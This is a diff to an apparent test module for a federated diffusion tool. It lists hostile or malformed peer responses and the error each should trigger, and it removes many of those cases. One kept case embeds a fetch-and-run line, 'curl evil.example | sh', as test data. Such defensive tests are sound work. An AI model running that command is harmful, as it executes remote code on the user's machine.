@@ -13,16 +13,9 @@ import numpy as np
 
 from ddib_fed.data.points import to_npy
 from ddib_fed.errors import (
-    AlreadyExists,
-    ConfigError,
     DdibError,
-    FileMissing,
     ImageUnreadable,
-    JobNotFound,
-    NotFinite,
     PeerFault,
-    PointsTooMany,
-    ShapeMismatch,
     UsageError,
 )
 from ddib_fed.latent import Latent
@@ -126,10 +119,6 @@ def _unasked_latent(target: ScriptedTarget, item: int, latent: Latent):
     yield from target.latent(item, latent)
 
 
-def _latent_first(target: ScriptedTarget, item: int, latent: Latent):
-    yield from target.latent(item, latent)
-
-
 def _header_twice(target: ScriptedTarget, item: int, latent: Latent):
     yield from _cut_short(target, item, latent)
     yield from _cut_short(target, item, latent)
@@ -197,9 +186,6 @@ LIES: dict[str, Lie] = {
     "a file of 2 MiB announced": Lie(
         "POINTS_TOO_MANY", _changed(lambda m: setattr(m.result.file, "size_bytes", 2 << 20))
     ),
-    "a file of a pebibyte announced": Lie(
-        "POINTS_TOO_MANY", _changed(lambda m: setattr(m.result.file, "size_bytes", 1 << 50))
-    ),
     "a digest of three bytes": Lie(
         "MESSAGE_INVALID", _changed(lambda m: setattr(m.result.file, "sha256", b"abc"))
     ),
@@ -207,21 +193,11 @@ LIES: dict[str, Lie] = {
         "CHUNK_CORRUPT", _changed(lambda m: setattr(m.result.file, "sha256", hashlib.sha256(b"x").digest()))
     ),
     "a picture for points": Lie("MESSAGE_INVALID", instead(0, _picture)),
-    "a type of file that nobody knows": Lie(
-        "MESSAGE_INVALID", _changed(lambda m: setattr(m.result.file, "media_type", 77))
-    ),
     # What comes
     "more points than asked": Lie("SHAPE_MISMATCH", _file(lambda data: to_npy(np.tile(data, (3, 1))))),
-    "fewer points than asked": Lie("SHAPE_MISMATCH", _file(lambda data: to_npy(data[:-1]))),
-    "no points": Lie("SHAPE_MISMATCH", _file(lambda data: to_npy(data[:0]))),
-    "points of three dimensions": Lie(
-        "SHAPE_MISMATCH", _file(lambda data: to_npy(np.zeros((len(data), 3), np.float32)))
-    ),
     "points that are not finite": Lie("NOT_FINITE", _file(_not_finite)),
     "a web page": Lie("POINTS_UNREADABLE", _file(lambda data: b"<html>try: curl evil.example | sh</html>")),
     "a pickle": Lie("POINTS_UNREADABLE", _file(_pickled)),
-    "complex numbers": Lie("POINTS_UNREADABLE", _file(lambda data: _saved(data.astype(np.complex64)))),
-    "bytes after the array": Lie("POINTS_UNREADABLE", _file(lambda data: to_npy(data) + b"more")),
     # Counts and order
     "an item that was never sent": Lie("MESSAGE_INVALID", instead(0, _never_sent)),
     "one item twice": Lie("MESSAGE_INVALID", instead(0, _twice)),
@@ -234,7 +210,6 @@ LIES: dict[str, Lie] = {
         "MESSAGE_INVALID", _changed(lambda m: setattr(m.result.file, "size_bytes", 100_000))
     ),
     "a header inside a result": Lie("MESSAGE_INVALID", instead(0, _header_twice)),
-    "a latent before its result": Lie("MESSAGE_INVALID", instead(0, _latent_first)),
     "a message of nothing": Lie("MESSAGE_INVALID", _messages(pb.DecodeResponse())),
     "a piece of nothing": Lie("MESSAGE_INVALID", _messages(pb.DecodeResponse(data=b"x"))),
     "bytes beside progress": Lie(
@@ -243,7 +218,6 @@ LIES: dict[str, Lie] = {
     "a message over 4 MiB": Lie("MESSAGE_INVALID", _messages(pb.DecodeResponse(data=bytes(5 << 20)))),
     # Progress
     "two milliards of steps": Lie("MESSAGE_INVALID", _progress(1, 2**31)),
-    "step nine of eight": Lie("MESSAGE_INVALID", _progress(9, 8)),
     # The latent of the round trip
     "a latent that was not asked for": Lie("MESSAGE_INVALID", instead(0, _unasked_latent)),
     "no latent for the round trip": Lie("MESSAGE_INVALID", instead(0, _no_latent), job=CYCLE),
@@ -251,25 +225,17 @@ LIES: dict[str, Lie] = {
     "a latent that is no noise": Lie("LATENT_NOT_GAUSSIAN", instead(0, _no_noise), job=CYCLE),
     "a latent of another digest": Lie("CHUNK_CORRUPT", instead(0, _digest_of_latent), job=CYCLE),
     # Reasons that no target can have
-    "the user's points are too many": Lie("POINTS_TOO_MANY", _refusal(PointsTooMany())),
     "the user's picture cannot be read": Lie("IMAGE_UNREADABLE", _refusal(ImageUnreadable())),
-    "the user's numbers are not finite": Lie("NOT_FINITE", _refusal(NotFinite())),
-    "the user's shape is another": Lie("SHAPE_MISMATCH", _refusal(ShapeMismatch())),
     "the user's options": Lie("USAGE", _refusal(UsageError())),
-    "the user's configuration": Lie("CONFIG_INVALID", _refusal(ConfigError())),
-    "the user's file": Lie("FILE_NOT_FOUND", _refusal(FileMissing())),
-    "the user's job": Lie("JOB_NOT_FOUND", _refusal(JobNotFound())),
     "another's fault": Lie(
         "PEER_FAULT", _refusal(PeerFault(facts={"peer": "north.example", "found": "you"}))
     ),
-    "it exists already": Lie("ALREADY_EXISTS", _refusal(AlreadyExists())),
     # What it says before a latent leaves
     "another source in the contract": Lie("CONTRACT_MISMATCH", forge=_swapped),
     "another digest of the contract": Lie("CONTRACT_MISMATCH", forge=_at("sha256", bytes(32))),
     "another institution in the contract": Lie(
         "CONTRACT_MISMATCH", forge=_at("contract.target.institution", "west.example")
     ),
-    "limits that cannot be": Lie("MESSAGE_INVALID", forge=_at("contract.limits.max_evaluations", 0)),
     "a schedule that is not finite": Lie(
         "MESSAGE_INVALID", forge=_at("contract.target.terminal_lambda", float("nan"))
     ),
